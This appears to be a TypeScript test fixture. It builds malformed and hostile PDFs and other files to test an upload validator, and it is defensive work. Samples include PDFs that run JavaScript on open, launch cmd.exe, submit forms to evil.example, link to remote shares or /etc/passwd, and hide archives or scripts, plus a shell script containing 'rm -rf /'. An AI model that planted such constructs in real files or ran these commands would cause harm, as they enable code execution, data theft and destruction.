import { PDFDocument } from 'mupdf';
import { makeLockedPdf, makePdf, makePhoto, writePdf } from '../photos.ts';
import type { HostileRow } from './hostile-row.ts';
import { readMp4 } from './videos.ts';
import { makeWord, makeZip } from './zips.ts';

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>';
const tree = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';

interface Additions {
  /** Of the catalog. */
  catalog?: string;
  /** Of the page. */
  page?: string;
  /** From number 4 on. */
  objects?: string[];
}

function makeArmedPdf({ catalog = '', page: more = '', objects = [] }: Additions): Buffer {
  return writePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    tree,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] ${more} >>`,
    ...objects,
  ]);
}

const annotate = (annotation: string) => makeArmedPdf({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]` });
const link = (uri: string) => annotate(`/Subtype /Link /A << /S /URI /URI (${uri}) >>`);

function makePackedPdf(): Buffer {
  const pdf = new PDFDocument();
  pdf.insertPage(-1, pdf.addPage([0, 0, 300, 400], 0, {}, ''));
  const script = pdf.addObject({ S: pdf.newName('JavaScript'), JS: pdf.newString('app.alert(1)') });
  pdf.getTrailer().get('Root').put('OpenAction', script);
  return Buffer.from(pdf.saveToBuffer('compress,objstms=yes').asUint8Array());
}

async function hideZip(): Promise<Buffer> {
  return Buffer.concat([makePdf(1), await makeZip({ 'a.txt': 'a' }), Buffer.from('\n%%EOF\n')]);
}

const pdfs: [string, () => Buffer | Promise<Buffer>][] = [
  ['a sound PDF of 3 pages', () => makePdf(3)],
  ['a PDF with a link to a page of the web', () => link('https://ncert.nic.in')],
  ['a PDF of 1,001 pages', () => makePdf(1_001)],
  ['a PDF with other bytes before it', () => Buffer.concat([Buffer.from('junk\n'), makePdf(1)])],
  ['a PDF that is cut in half', () => makePdf(9).subarray(0, 700)],
  ['a PDF with a web page behind its end', () => Buffer.concat([makePdf(1), Buffer.from('<script>alert(1)</script>')])],
  ['a PDF with an archive behind its end', async () => Buffer.concat([makePdf(1), await makeZip({ 'a.exe': 'MZ' })])],
  ['a PDF with an archive before a second end', hideZip],
  [
    'a PDF with a web page in its first comment',
    () => Buffer.from(makePdf(1).toString('latin1').replace('%PDF-1.4\n', '%PDF-1.4\n%<html><script>alert(1)</script>\n')),
  ],
  [
    'a PDF whose table of objects is wrong',
    () =>
      Buffer.from(
        makePdf(2)
          .toString()
          .replace(/0000000009/, '0000000019'),
      ),
  ],
  [
    'a PDF whose pages lead back to themselves',
    () => writePdf(['<< /Type /Catalog /Pages 2 0 R >>', tree.replace('3 0', '2 0'), page]),
  ],
  ['a PDF of no pages', () => makePdf(0)],
  ['a PDF locked with a password', makeLockedPdf],
  ['a PDF that runs JavaScript when it is opened', () => makeArmedPdf({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' })],
  [
    'a PDF with a list of scripts',
    () => makeArmedPdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: ['<< >>'] }),
  ],
  [
    'a PDF whose script is written with signs in other ways',
    () => annotate('/Subtype /Link /A << /S /J#61vaScr#69pt /J#53 (x) >>'),
  ],
  ['a PDF with a script that nothing refers to', () => makeArmedPdf({ objects: ['<< /S /JavaScript /JS (x) >>'] })],
  ['a PDF whose script lies in a packed object', makePackedPdf],
  [
    'a PDF with a script that runs when a page is turned',
    () => makeArmedPdf({ page: '/AA << /O << /S /JavaScript /JS (x) >> >>' }),
  ],
  ['a PDF that starts a program', () => makeArmedPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['a PDF with a file in it', () => makeArmedPdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' })],
  ['a PDF with a file pinned to a page', () => annotate('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>')],
  ['a PDF with a form of the kind XFA', () => makeArmedPdf({ catalog: '/AcroForm << /Fields [] /XFA [] >>' })],
  [
    'a PDF with a form that sends itself away',
    () => annotate('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>'),
  ],
  [
    'a PDF with a link into another file',
    () => annotate('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0] >>'),
  ],
  ['a PDF with a link that is a script', () => link('javascript:alert(1)')],
  ['a PDF with a link to files of another machine', () => link('file://evil/share/a')],
  ['a PDF with a film in it', () => annotate('/Subtype /RichMedia')],
  [
    'a PDF whose parts lie in other files',
    () => makeArmedPdf({ page: '/Contents 4 0 R', objects: ['<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream'] }),
  ],
  ['an archive (ZIP)', () => makeZip({ 'a.txt': 'a' })],
  ['a Word document', () => makeWord()],
  ['a picture (JPEG)', () => makePhoto('jpeg')],
  ['a video (MP4)', readMp4],
  ['a program for Windows', () => Buffer.from(`MZ\x90\0${'\0'.repeat(200)}PE\0\0`, 'latin1')],
  ['a program for Linux', () => Buffer.from(`\x7fELF\x02\x01\x01${'\0'.repeat(200)}`, 'latin1')],
  ['a web page', () => Buffer.from('<!DOCTYPE html><title>x</title><script>alert(1)</script>')],
  ['a script', () => Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['no bytes that mean anything', () => Buffer.from(Array.from({ length: 900 }, (_, place) => (place * 7919) % 256))],
  ['PostScript', () => Buffer.from('%!PS-Adobe-3.0\nshowpage\n')],
  ['the beginning of a PDF, and nothing more', () => Buffer.from('%PDF-1.7\n%%EOF\n')],
];

/** Sent as type PDF. */
export const hostilePdfs: HostileRow[] = pdfs.map(([what, make]) => ({ what, name: 'chapter.pdf', type: 'pdf', make }));
